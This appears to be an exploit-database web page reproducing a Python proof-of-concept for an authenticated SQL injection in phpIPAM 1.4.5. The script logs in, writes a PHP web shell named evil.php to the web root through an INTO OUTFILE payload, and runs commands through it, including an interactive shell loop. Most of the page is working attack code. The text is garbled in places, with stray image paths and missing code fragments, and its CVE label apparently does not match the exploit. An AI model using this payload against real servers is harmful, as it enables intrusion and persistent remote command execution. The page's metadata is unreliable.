phpIPAM 1.4.5 Remote Code Execution

CVE Category Price Severity
CVE-2020-26971 CWE-94 Not specified High
Author Risk Exploitation Type Date
Cale Smith High Remote 2022-06-20
Our sensors found this exploit at:

Below is a copy:

phpIPAM 1.4.5 Remote Code Execution
# Exploit Title: phpIPAM 1.4.5 - Remote Code Execution (RCE) (Authenticated)
# Date: 2022-04-10
# Exploit Author: Guilherme '@behiNdyk1' Alves
# Vendor Homepage:
# Software Link:
# Version:1.4.5
# Tested on: Linux Ubuntu 20.04.3 LTS

#!/usr/bin/env python3

import requests
import argparse
from sys import exit, argv
from termcolor import colored

banner = """


parser = argparse.ArgumentParser(usage="./ -url http://domain.tld/ipam_base_url -usr username -pwd password -cmd 'command_to_execute' --path /system/writable/path/to/save/shell", description="phpIPAM 1.4.5 - (Authenticated) SQL Injection to RCE")

parser.add_argument("-url", type=str, help="URL to vulnerable IPAM", required=True)
parser.add_argument("-usr", type=str, help="Username to log in as", required=True)
parser.add_argument("-pwd", type=str, help="User's password", required=True)
parser.add_argument("-cmd", type=str,help="Command to execute", default="id")
parser.add_argument("--path", type=str, help="Path to writable system folder and accessible via webserver (default: /var/www/html)", default="/var/www/html")
parser.add_argument("--shell", type=str, help="Spawn a shell (non-interactive)", nargs="?")
args = parser.parse_args()

url = args.url
username = args.usr
password = args.pwd
command = args.cmd
path = args.path

# Validating url
if url.endswith("/"):
url = url[:-1]if not url.startswith("http://") and not url.startswith("https://"):
print(colored("[!] Please specify a valid scheme (http:// or https://) before the domain.", "yellow"))

def login(url, username, password):
"""Takes an username and a password and tries to execute a login (IPAM)"""
data = {
"ipamusername": username,
"ipampassword": password
print(colored(f"[...] Trying to log in as {username}", "blue"))
r ="{url}/app/login/login_check.php", data=data)
if "Invalid username or password" in r.text:
print(colored(f"[-] There's an error when trying to log in using these credentials --> {username}:{password}", "red"))
print(colored("[+] Login successful!", "green"))
return str(r.cookies['phpipam'])

auth_cookie = login(url, username, password)

def exploit(url, auth_cookie, path, command):
print(colored("[...] Exploiting", "blue"))
vulnerable_path = "app/admin/routing/edit-bgp-mapping-search.php"
data = {
"subnet": f"\" Union Select 1,0x201c3c3f7068702073797374656d28245f4745545b2018636d6420195d293b203f3e201d,3,4 INTO OUTFILE '{path}/evil.php' -- -",
"bgp_id": "1"
cookies = {
"phpipam": auth_cookie
}"{url}/{vulnerable_path}", data=data, cookies=cookies)
test = requests.get(f"{url}/evil.php")
if test.status_code != 200:
return print(colored(f"[-] Something went wrong. Maybe the path isn't writable. You can still abuse of the SQL injection vulnerability at {url}/index.php?page=tools&section=routing&subnetId=bgp&sPage=1", "red"))
if "--shell" in argv:
while True:
command = input("Shell> ")
r = requests.get(f"{url}/evil.php?cmd={command}")
print(colored(f"[+] Success! The shell is located at {url}/evil.php. Parameter:cmd", "green"))
r = requests.get(f"{url}/evil.php?cmd={command}")
print(f"\n\n[+] Output:\n{r.text}")

exploit(url, auth_cookie, path, command)

Copyright ©2024 Exploitalert.

Alltrademarks used are properties of their respective owners. Byvisiting this website you agree to Terms of Use.